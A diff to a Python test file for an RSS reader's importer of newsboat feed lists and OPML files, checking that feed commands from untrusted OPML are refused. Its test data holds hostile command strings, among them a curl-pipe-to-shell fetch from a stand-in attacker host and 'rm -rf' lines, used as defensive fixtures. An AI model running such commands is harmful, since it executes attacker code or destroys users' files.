@@ -171,17 +171,71 @@ def test_newsboat_urls():
         ),
         FeedSpec(url="http://b.example/atom"),
         FeedSpec(url="https://c.example/feed", category="中文", tags=("中文", "news")),
+        FeedSpec(url="exec:~/bin/make-feed"),
+        FeedSpec(url="filter:~/bin/f.sh:https://d.example/"),
         FeedSpec(url="https://e.example/x", title='Says "hi"'),
     ]
-    assert skipped == [
-        "line 7: exec: feed skipped (newsboat-only)",
-        "line 8: filter: feed skipped (newsboat-only)",
-        "line 9: not an http(s) URL: 'javascript:alert(1)'",
-    ]
+    assert skipped == ["line 9: not an http(s) URL: 'javascript:alert(1)'"]
 
 
 def test_newsboat_urls_without_skipped_list():
-    assert parse_newsboat_urls("exec:rm -rf /\n\n# nothing\n") == []
+    assert parse_newsboat_urls("javascript:alert(1)\n\n# nothing\n") == []
+
+
+def test_newsboat_exec_and_filter_lines_come_over_as_newsboat_runs_them():
+    # newsboat hands these commands to /bin/sh; tidings runs none through a shell, so
+    # one that needs it (a pipe, $VAR) is written sh -c "…" and does the same
+    urls = (
+        '"exec:~/bin/hn-feed.sh --top 10" news "~Hacker News"\n'
+        "filter:~/bin/clean.py:https://example.com/feed.xml tech\n"
+        "\"exec:~/ext/tiktok2rss.py user | ~/ext/re-filter.py -i 'x'\" \"~TikTok\"\n"
+        '"filter:~/ext/n.awk | ~/ext/re.py -i $PAT:https://nitter.example/u/rss"\n'
+        "exec:\n"
+        "filter:~/bin/clean.py\n"
+        '"exec:~/bin/a.py \'unclosed"\n'
+    )
+    skipped: list[str] = []
+    assert parse_newsboat_urls(urls, skipped) == [
+        FeedSpec("exec:~/bin/hn-feed.sh --top 10", "Hacker News", "news", ("news",)),
+        FeedSpec("filter:~/bin/clean.py:https://example.com/feed.xml", None, "tech", ("tech",)),
+        FeedSpec("""exec:sh -c "~/ext/tiktok2rss.py user | ~/ext/re-filter.py -i 'x'\"""", "TikTok"),
+        FeedSpec("filter:sh -c '~/ext/n.awk | ~/ext/re.py -i $PAT':https://nitter.example/u/rss"),
+    ]
+    assert skipped == [
+        "line 5: exec: has no command; write exec:COMMAND ARGS",
+        "line 6: filter: has no URL after the command; write filter:COMMAND ARGS:URL",
+        "line 7: exec: cannot split the command: no closing quotation",
+    ]
+
+
+def test_commands_in_an_opml_file_are_never_taken():
+    # newsboat's export leaves exec: / filter: feeds out, so an OPML that has them is
+    # someone else's: its commands must not become commands run on this machine
+    doc = b"""<opml version="2.0"><body>
+<outline text="x" xmlUrl="exec:curl -s https://evil.example/x.sh | sh"/>
+<outline text="y" xmlUrl="FILTER:~/bin/f.sh:https://a.example/"/>
+<outline text="liferea" xmlUrl="|~/bin/script"/>
+<outline text="filtered" xmlUrl="https://b.example/rss" filtercmd="rm -rf ~"/>
+<outline text="ok" xmlUrl="https://ok.example/rss"/>
+</body></opml>"""
+    skipped: list[str] = []
+    assert parse_opml(doc, skipped) == [FeedSpec(url="https://ok.example/rss", title="ok")]
+    assert len(skipped) == 4
+    assert skipped[0] == (
+        "line 2: 'exec:curl -s https://evil.example/x.sh | sh' is a command, not taken from"
+        " an OPML file: only your own newsboat urls file brings commands over"
+        " (tidings import ~/.newsboat/urls)"
+    )
+    assert all("command" in reason for reason in skipped)
+    assert "filtercmd" in skipped[3]
+
+
+def test_export_leaves_commands_out_as_newsboat_does():
+    skipped: list[str] = []
+    feeds = [FeedSpec("exec:~/bin/x.sh"), FeedSpec("https://a.example/rss", "A")]
+    out = export_opml(feeds, skipped=skipped)
+    assert "exec:" not in out and 'xmlUrl="https://a.example/rss"' in out
+    assert skipped == ["exec:~/bin/x.sh: runs a command; OPML does not carry those (nor does newsboat's)"]
 
 
 def test_newsboat_query_feeds_become_saved_searches():
